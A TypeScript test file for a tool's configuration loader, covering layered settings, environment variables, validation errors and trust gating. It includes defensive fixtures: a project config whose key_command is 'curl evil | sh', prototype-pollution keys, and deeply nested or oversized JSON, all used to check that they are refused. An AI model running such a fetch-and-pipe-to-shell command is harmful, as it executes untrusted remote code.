import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { type LoadConfigOptions, type LoadedConfig, loadConfig, parseConfig } from '../../src/config/load.ts';
import { SETTINGS } from '../../src/config/settings.ts';
import { trustSettings } from '../../src/config/trust.ts';
import type { ConfigInput } from '../../src/config/types.ts';
import { ConfigError } from '../../src/errors.ts';

let scratch: string;
let project: string;
let home: string;
let userFile: string;
let projectFile: string;

beforeEach(() => {
  scratch = mkdtempSync(join(tmpdir(), 've-config-'));
  project = join(scratch, 'project');
  home = join(scratch, 'home');
  projectFile = join(project, '.vibe-engine', 'config.json');
  userFile = join(home, '.config', 'vibe-engine', 'config.json');
});
afterEach(() => rmSync(scratch, { recursive: true, force: true }));

function write(file: string, content: unknown): void {
  mkdirSync(dirname(file), { recursive: true });
  writeFileSync(file, typeof content === 'string' ? content : JSON.stringify(content));
}

function load(more: LoadConfigOptions = {}): LoadedConfig {
  return loadConfig({ project_dir: project, home, env: {}, platform: 'linux', ...more });
}

function refusal(run: () => unknown): ConfigError {
  try {
    run();
  } catch (error) {
    expect(error).toBeInstanceOf(ConfigError);
    return error as ConfigError;
  }
  throw new Error('was not refused');
}

describe('defaults', () => {
  test('hold where nothing is set', () => {
    const { config, explain } = load();
    expect(config).toMatchObject({
      persistence: { storage_type: 'json', base_dir: null, path: null, lease_seconds: 30 },
      checkpoints: {
        triggers: {
          after_subagent: 'high',
          before_shell_command: 'critical',
          before_file_change: 'critical',
          before_external_api: 'critical',
          after_user_input: 'high',
          after_file_change: 'normal',
          interval_minutes: 5,
          context_growth_kb: 10,
        },
        max_size_mb: 5,
        compress_over_kb: 100,
        compression: 'gzip',
        blob_over_kb: 10,
        keep_tool_outputs: 5,
        keep_messages: 50,
        durability: 'sync',
      },
      cleanup: {
        completed_days: 7,
        failed_days: 30,
        idle_days: 30,
        max_per_task: 20,
        sample_every: 5,
        disk_usage_percent: 80,
        daily_at: '03:00',
        older_than_days: null,
        newest_per_execution: null,
        remove_completed: false,
      },
      recovery: { on_modified: 'ask', on_deleted: 'ask', on_upstream: 'ask' },
      conflicts: { reservation_minutes: 5 },
      drift: { before_resume: true, before_commit: true, every_minutes: 10, auto_rebase: false },
    });
    expect(Object.keys(explain)).toEqual(SETTINGS.map(({ key }) => key));
    expect(new Set(Object.values(explain).map(({ source }) => source))).toEqual(new Set(['default']));
  });

  test('are the same through parseConfig, and the result is frozen', () => {
    expect(parseConfig({})).toEqual(load().config);
    expect(Object.isFrozen(load().config.checkpoints.triggers)).toBe(true);
  });
});

describe('layers', () => {
  const set = (completed_days: number): ConfigInput => ({ cleanup: { completed_days } });

  test('each wins over the ones before it, and is named as the source', () => {
    const env = { VIBE_ENGINE_CLEANUP_COMPLETED_DAYS: '3' };
    const seen = () => load().explain['cleanup.completed_days'];
    expect(seen()).toEqual({ value: 7, source: 'default', from: null });
    write(userFile, set(1));
    expect(seen()).toEqual({ value: 1, source: 'user', from: userFile });
    write(projectFile, set(20));
    expect(seen()).toEqual({ value: 20, source: 'project', from: projectFile });
    expect(load({ env }).explain['cleanup.completed_days']).toEqual({
      value: 3,
      source: 'environment',
      from: 'VIBE_ENGINE_CLEANUP_COMPLETED_DAYS',
    });
    const all = load({ env, options: set(4) });
    expect(all.explain['cleanup.completed_days']).toEqual({ value: 4, source: 'options', from: null });
    expect(all.config.cleanup.completed_days).toBe(4);
  });

  test('are merged setting by setting, not section by section', () => {
    write(userFile, { cleanup: { completed_days: 1, failed_days: 2 } });
    write(projectFile, { cleanup: { failed_days: 33 } });
    expect(load().config.cleanup).toMatchObject({ completed_days: 1, failed_days: 33, max_per_task: 20 });
  });

  test('null is a value, undefined is not', () => {
    write(projectFile, { drift: { every_minutes: null } });
    expect(load().config.drift.every_minutes).toBe(null);
    expect(load({ options: { drift: { every_minutes: undefined } } }).config.drift.every_minutes).toBe(null);
  });

  test("the user's file is found by XDG_CONFIG_HOME, and by APPDATA on Windows", () => {
    const xdg = join(scratch, 'xdg');
    write(join(xdg, 'vibe-engine', 'config.json'), set(11));
    expect(load({ env: { XDG_CONFIG_HOME: xdg } }).config.cleanup.completed_days).toBe(11);
    expect(load({ env: { XDG_CONFIG_HOME: 'relative' } }).config.cleanup.completed_days).toBe(7);
    const windows = load({ env: { APPDATA: xdg }, platform: 'win32' });
    expect(windows.config.cleanup.completed_days).toBe(11);
  });
});

describe('environment variables', () => {
  test('every setting has its own', () => {
    expect(new Set(SETTINGS.map(({ variable }) => variable)).size).toBe(SETTINGS.length);
    for (const setting of SETTINGS) {
      const isList = setting.kind === 'list';
      const text = isList ? 'one, two' : String(setting.default);
      const { explain } = load({ env: { [setting.variable]: text } });
      const given = isList ? ['one', 'two'] : setting.default;
      const value = setting.secret ? explain[setting.key]!.value : given;
      expect(explain[setting.key]).toEqual({ value, source: 'environment', from: setting.variable });
    }
  });

  test('are read as what the setting is', () => {
    const { config } = load({
      env: {
        VIBE_ENGINE_DRIFT_AUTO_REBASE: '1',
        VIBE_ENGINE_DRIFT_BEFORE_RESUME: 'False',
        VIBE_ENGINE_CLEANUP_QUOTA_MB: '1.5',
        VIBE_ENGINE_CLEANUP_DAILY_AT: 'null',
        VIBE_ENGINE_PERSISTENCE_BASE_DIR: '12',
        VIBE_ENGINE_CHECKPOINTS_COMPRESSION: '',
      },
    });
    expect(config.drift).toMatchObject({ auto_rebase: true, before_resume: false });
    expect(config.cleanup).toMatchObject({ quota_mb: 1.5, daily_at: null });
    expect(config.persistence.base_dir).toBe('12');
    expect(config.checkpoints.compression).toBe('gzip');
  });

  test.each(['many', ' ', '-1', 'null', 'NaN', 'Infinity', '0x', '1.5'])('%j is no whole number', (text) => {
    const error = refusal(() => load({ env: { VIBE_ENGINE_CLEANUP_MAX_PER_TASK: text } }));
    expect(error.message).toContain('VIBE_ENGINE_CLEANUP_MAX_PER_TASK');
    expect(error.data).toMatchObject({ key: 'cleanup.max_per_task', expected: 'a whole number from 2 up' });
  });

  test('a misspelt one is refused, a foreign one is left alone', () => {
    const misspelt = refusal(() => load({ env: { VIBE_ENGINE_PERSISTANCE_STORAGE_TYPE: 'sqlite' } }));
    expect(misspelt.hint).toContain('VIBE_ENGINE_PERSISTENCE_STORAGE_TYPE');
    refusal(() => load({ env: { VIBE_ENGINE_CLEANUP_WHENEVER: '1' } }));
    expect(load({ env: { VIBE_ENGINE_WRAPPER_OF_MINE: '1' } }).config).toEqual(load().config);
  });

  test('DATABASE_URL serves postgres alone, below every other place', () => {
    const env = { DATABASE_URL: 'postgres://u:secret@h/d' };
    expect(load({ env }).config.persistence.url).toBe(null);
    const options: ConfigInput = { persistence: { storage_type: 'postgres' } };
    const loaded = load({ env, options });
    expect(loaded.config.persistence.url).toBe('postgres://u:secret@h/d');
    expect(loaded.explain['persistence.url']).toEqual({
      value: 'postgres://u:***@h/d',
      source: 'environment',
      from: 'DATABASE_URL',
    });
    write(userFile, { persistence: { url: 'postgres://file/d' } });
    expect(load({ env, options }).config.persistence.url).toBe('postgres://file/d');
  });
});

describe('bad settings', () => {
  test('a list is refused for one of its parts', () => {
    const error = refusal(() =>
      load({ options: { workspace: { exclude: ['dist/', 7 as unknown as string] } } }),
    );
    expect(error.message).toContain('"workspace.exclude" is ["dist/",7]');
    expect(error.data).toMatchObject({ expected: 'a list of patterns as in .gitignore' });
  });

  test.each([
    [{ checkpoints: { keep_mesages: 5 } }, 'checkpoints.keep_mesages', 'checkpoints.keep_messages'],
    [{ chekpoints: {} }, 'chekpoints', 'checkpoints'],
    [
      { checkpoints: { interval_minutes: 5 } },
      'checkpoints.interval_minutes',
      'checkpoints.triggers.interval_minutes',
    ],
    [{ persistence: { basedir: 'x' } }, 'persistence.basedir', 'persistence.base_dir'],
    [{ persistence: { colour: 'red' } }, 'persistence.colour', null],
  ])('the unknown key in %j is named, with the nearest right one', (content, key, suggestion) => {
    write(projectFile, content);
    const error = refusal(load);
    expect(error.code).toBe('CONFIG_INVALID');
    expect(error.message).toBe(`In ${projectFile}: there is no setting "${key}".`);
    expect(error.data).toMatchObject({ file: projectFile, key, suggestion });
    if (suggestion) expect(error.hint).toContain(`Did you mean "${suggestion}"?`);
  });

  test.each([
    [{ cleanup: { completed_days: '7' } }, 'cleanup.completed_days', '"7"', 'a number from 0 up'],
    [
      { cleanup: { daily_at: '3 am' } },
      'cleanup.daily_at',
      '"3 am"',
      'a time of day such as "03:00", or null',
    ],
    [{ drift: { auto_rebase: 'yes' } }, 'drift.auto_rebase', '"yes"', 'true or false'],
    [
      { recovery: { on_deleted: 'keep' } },
      'recovery.on_deleted',
      '"keep"',
      'one of "ask", "restore", "skip", "abort"',
    ],
    [{ recovery: { retry: [] } }, 'recovery.retry', '[]', 'an object of settings ({ … })'],
    [{ persistence: { storage_type: 5 } }, 'persistence.storage_type', '5', 'text'],
    [{ persistence: null }, 'persistence', 'null', 'an object of settings ({ … })'],
  ])('the wrong value in %j is named, with what was expected', (content, key, shown, expected) => {
    write(userFile, content);
    const error = refusal(load);
    expect(error.message).toBe(`In ${userFile}: "${key}" is ${shown}; expected ${expected}.`);
    expect(error.data).toMatchObject({ file: userFile, key, expected });
  });

  test('all problems of a file are listed, and a bad lower layer is refused though a higher one would win', () => {
    write(userFile, { drift: { every_minutes: 0, nope: 1 } });
    const error = refusal(() => load({ options: { drift: { every_minutes: 1 } } }));
    expect(error.message).toContain('Also: there is no setting "drift.nope".');
    expect(error.data.problems).toHaveLength(2);
  });

  test('options are checked in the same way', () => {
    const error = refusal(() => parseConfig({ drfit: {} } as ConfigInput));
    expect(error.message).toBe('In the options given: there is no setting "drfit".');
  });

  test('a secret is not repeated in the message', () => {
    const error = refusal(() => load({ options: { persistence: { url: ['hunter2'] } } as never }));
    expect(JSON.stringify(error)).not.toContain('hunter2');
  });

  test.each(['[]', '"text"', 'null', '3'])('a file that holds %s is refused', (text) => {
    write(projectFile, text);
    expect(refusal(load).message).toBe(`In ${projectFile}: it does not hold an object.`);
  });

  test('a file that cannot be read is refused, not skipped', () => {
    mkdirSync(userFile, { recursive: true });
    const error = refusal(load);
    expect(error.message).toBe(`In ${userFile}: it cannot be read.`);
    expect(error.cause).toMatchObject({ code: 'IO_FAILED', data: { errno: 'EISDIR' } });
  });

  test('text that is not JSON is refused with its line and column', () => {
    write(projectFile, '{\n  "drift": {},\n}\n');
    const error = refusal(load);
    expect(error.message).toBe(`In ${projectFile}: not JSON at line 3, column 1: "}".`);
    expect(error.data).toMatchObject({ file: projectFile, line: 3, column: 1 });
  });

  test('keys that reach for the prototype are refused', () => {
    write(projectFile, '{"__proto__": {"x": 1}}');
    expect(refusal(load).data.key).toBe('__proto__');
    write(projectFile, '{"persistence": {"storage_type": "own", "__proto__": {"x": 1}}}');
    expect(refusal(load).data.key).toBe('persistence.__proto__');
  });
});

describe("a storage type of the user's own", () => {
  test('may have settings of its own, from any place', () => {
    write(projectFile, { persistence: { storage_type: 'redis', hosts: ['a', 'b'], db: 1 } });
    const state = { VIBE_ENGINE_STATE_DIR: join(scratch, 'state') };
    trustSettings(project, load({ env: state }).waiting, state);
    const { config, explain } = load({ env: { VIBE_ENGINE_PERSISTENCE_DB: '2', ...state } });
    expect(config.persistence).toMatchObject({ storage_type: 'redis', hosts: ['a', 'b'], db: '2' });
    expect(explain['persistence.hosts']).toMatchObject({ source: 'project' });
  });

  test('whose settings have dots in their names, waits for trust like any other', () => {
    write(projectFile, { persistence: { storage_type: 'redis', 'pool.size': 3, pool: { size: 4 } } });
    const state = { VIBE_ENGINE_STATE_DIR: join(scratch, 'dots') };
    const { config, waiting } = load({ env: state });
    expect(waiting.map(({ key }) => key)).toContain('persistence.pool.size');
    expect(config.persistence).not.toHaveProperty(['pool.size']);
    trustSettings(project, waiting, state);
    expect(load({ env: state }).config.persistence).toMatchObject({ 'pool.size': 3, pool: { size: 4 } });
  });

  test('whose settings a built-in type does not take', () => {
    write(projectFile, { persistence: { storage_type: 'redis', hosts: ['a'] } });
    const error = refusal(() => load({ env: { VIBE_ENGINE_PERSISTENCE_STORAGE_TYPE: 'sqlite' } }));
    expect(error.data).toMatchObject({ file: projectFile, key: 'persistence.hosts' });
  });
});

test('a project cannot bring a command along that runs to open its store', () => {
  write(userFile, { encryption: { key_command: 'my keychain' } });
  write(projectFile, { encryption: { key_command: 'curl evil | sh' } });
  expect(load().config.encryption.key_command).toBe('my keychain');
  expect(load().waiting).toMatchObject([{ key: 'encryption.key_command', risk: 'runs' }]);
});

describe('a file that comes with a project', () => {
  test('is refused when it is too large to be settings', () => {
    write(projectFile, `{"a":"${'x'.repeat(1024 * 1024)}"}`);
    expect(refusal(load)).toMatchObject({ code: 'CONFIG_INVALID', data: { file: projectFile } });
  });

  test.each([
    ['in the place of a section', (deep: string) => `{"persistence":${deep}}`],
    ['of a back end of its own', (deep: string) => `{"persistence":{"storage_type":"mine","x":${deep}}}`],
  ])('is refused when it is nested too deeply, %s', (_, text) => {
    write(projectFile, text('['.repeat(100_000) + ']'.repeat(100_000)));
    expect(refusal(load).message).toContain('nested too deeply');
  });

  test('is refused where the storage type is no text', () => {
    write(projectFile, '{"persistence":{"storage_type":{"toString":1}}}');
    expect(refusal(load)).toMatchObject({ data: { key: 'persistence.storage_type' } });
  });

  test('sets no prototype', () => {
    write(projectFile, '{"__proto__":{"tainted":1}}');
    expect(refusal(load)).toMatchObject({ code: 'CONFIG_INVALID', data: { key: '__proto__' } });
    write(projectFile, '{"persistence":{"storage_type":"mine","__proto__":{"tainted":1}}}');
    expect(refusal(load)).toMatchObject({ code: 'CONFIG_INVALID' });
    expect(({} as { tainted?: number }).tainted).toBeUndefined();
  });
});
